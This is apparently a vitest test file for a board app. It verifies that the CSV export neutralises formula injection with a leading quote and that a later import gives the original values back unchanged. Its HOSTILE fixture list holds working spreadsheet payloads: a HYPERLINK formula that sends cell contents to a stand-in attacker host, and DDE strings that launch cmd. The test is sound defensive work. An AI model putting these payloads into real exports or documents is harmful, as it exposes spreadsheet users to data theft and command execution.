import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, createTestServer, type TestServer } from '../helpers/test-server';
import { attribute, board, folder, item, newId, teamWithRoles, value, type TeamFixture } from './sync-fixtures';
import { escapeFormula, unescapeFormula } from '../../schema/csv-formula';
import type { BoardJob } from '../../schema/board-jobs';

/**
 * CSV formula injection (security review N6, issue #26 part 6): anonymous form answers and member
 * text reach the CSV export; a cell starting with =, +, -, @, tab or CR is written with a leading
 * ', and the CSV import takes it off, so export → import gives back the same names and values
 * (a negative number in a number column comes back a number).
 */

const HOSTILE = [
  '=HYPERLINK("http://attacker.test/?leak="&A2&B2,"Click for details")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
];

describe('N6: CSV formula injection', () => {
  let server: TestServer;
  let t: TeamFixture;
  const b = board({ name: 'Requests' });
  const inbox = folder(b.id, { name: 'Inbox' });
  const back = folder(b.id, { name: 'Round trip' });
  const nameId = `${b.id}.name`;
  const score = attribute(b.id, { name: 'Score', kind: 'number' });
  const note = attribute(b.id, { name: 'Note', kind: 'text' });
  let formId: string;

  const put = async (route: string, rec: { id: string; [key: string]: unknown }) => {
    const res = await api(server.app, 'PUT', `/api/${t.teamId}/${route}/${encodeURIComponent(rec.id)}`, { token: t.owner.token, body: rec });
    expect(res.statusCode, res.body).toBe(200);
  };
  const exportFolder = async (folderId: string) => {
    const res = await api(server.app, 'GET', `/api/${t.teamId}/boards/${b.id}/exports/csv?folder_id=${folderId}`, { token: t.owner.token });
    expect(res.statusCode, res.body).toBe(200);
    return res.body.replace(/^\ufeff/, '');
  };

  beforeAll(async () => {
    server = await createTestServer();
    t = await teamWithRoles(server.ctx);
    for (const f of [b, inbox, back]) await put('folders', f);
    for (const a of [score, note]) await put('attributes', a);
    formId = newId();
    await put('folder-views', { id: formId, board_id: b.id, folder_id: b.id, name: 'Form', kind: 'form', row_version: 1, settings: { enabled: true, fields: [{ attribute_id: nameId, required: true }], target_folder_id: inbox.id } });
  });
  afterAll(() => server?.close());

  it('escapes and unescapes exactly', () => {
    for (const cell of [...HOSTILE, '\tTab', '\rCR', "'=already quoted", "''+twice", '-5']) {
      expect(escapeFormula(cell)).toBe(`'${cell}`);
      expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
    }
    for (const cell of ['plain', "it's", "'quoted text", '5', '', 'a=b']) {
      expect(escapeFormula(cell)).toBe(cell);
      expect(unescapeFormula(cell)).toBe(cell);
    }
  });

  it('writes form answers and item text that a spreadsheet would evaluate with a leading quote', async () => {
    for (const [i, name] of HOSTILE.entries()) {
      const sent = await api(server.app, 'POST', `/api/forms/${formId}`, { body: { answers: { [nameId]: name } }, headers: { 'x-forwarded-for': `198.51.100.${i + 1}` } });
      expect(sent.statusCode, sent.body).toBe(201);
    }
    const tabbed = item(b.id, { folder_id: inbox.id, name: 'Tabbed', position: 100 });
    await put('items', tabbed);
    await put('values', value(b.id, tabbed.id, note.id, '\tindented'));
    const csv = await exportFolder(inbox.id);
    const rows = Papa.parse<string[]>(csv.trimEnd(), { newline: '\r\n' }).data;
    const cells = rows.flat();
    for (const name of HOSTILE) expect(cells, name).toContain(`'${name}`);
    expect(cells).toContain("'\tindented");
    // No cell of the file starts with a character a spreadsheet evaluates.
    for (const cell of cells) expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it('an export imported again gives back the same names and values (a negative number stays a number)', async () => {
    const source = folder(b.id, { name: 'Source' });
    await put('folders', source);
    const rows: [string, number | null, string][] = [
      ['=1+1', -5, "'=quoted already"],
      ['+plus', -2.5, '@at'],
      ['-minus', 7, '-dash'],
      ['@mention', 0, 'plain text'],
      ['Plain name', -1000, "it's fine"],
      // A tab or carriage return first is escaped too, and comes back exactly (nothing trimmed).
      ['\tTab name', 3, '\tTab note'],
      ['CR name', 4, '\rCR note'],
    ];
    for (const [i, [name, n, text]] of rows.entries()) {
      const it = item(b.id, { folder_id: source.id, name, position: i + 1 });
      await put('items', it);
      if (n !== null) await put('values', value(b.id, it.id, score.id, n));
      await put('values', value(b.id, it.id, note.id, text));
    }
    const csv = await exportFolder(source.id);
    expect(csv).toContain("'-5");
    const header = Papa.parse<string[]>(csv, { newline: '\r\n' }).data[0]!;
    const columns = header.map((h) => (h === 'Name' ? { to: 'name' } : h === 'Score' ? { to: 'existing', attribute_id: score.id } : h === 'Note' ? { to: 'existing', attribute_id: note.id } : { to: 'skip' }));
    const started = await api(server.app, 'POST', `/api/${t.teamId}/boards/${b.id}/imports/csv`, { token: t.owner.token, body: { folder_id: back.id, board_id: b.id, file_name: 'round.csv', csv, delimiter: ',', header: true, columns } });
    expect(started.statusCode, started.body).toBe(202);
    const jobId: string = started.json().data.id;
    let job: BoardJob | null = null;
    for (const deadline = Date.now() + 90_000; Date.now() < deadline; ) {
      await server.ctx.jobs.drain();
      job = (await api(server.app, 'GET', `/api/me/board-jobs/${jobId}`, { token: t.owner.token })).json().data;
      if (job!.finished_at) break;
      server.advance(5_000);
      await new Promise((r) => setTimeout(r, 200));
    }
    expect(job!.state, JSON.stringify(job!.errors)).toBe('done');
    expect(job!.errors ?? []).toEqual([]);
    const items = (await api(server.app, 'GET', `/api/${t.teamId}/items?board_id=${b.id}`, { token: t.owner.token })).json().data as { id: string; name: string; folder_id: string }[];
    const values = (await api(server.app, 'GET', `/api/${t.teamId}/values?board_id=${b.id}`, { token: t.owner.token })).json().data as { item_id: string; attribute_id: string; value: unknown }[];
    const imported = items.filter((i) => i.folder_id === back.id);
    const got = rows.map(([name]) => {
      const it = imported.find((i) => i.name === name);
      expect(it, name).toBeTruthy();
      const of = (a: string) => values.find((v) => v.item_id === it!.id && v.attribute_id === a)?.value ?? null;
      return [it!.name, of(score.id), of(note.id)];
    });
    expect(got).toEqual(rows);
    expect(typeof got[0]![1]).toBe('number');
  }, 120_000);
});
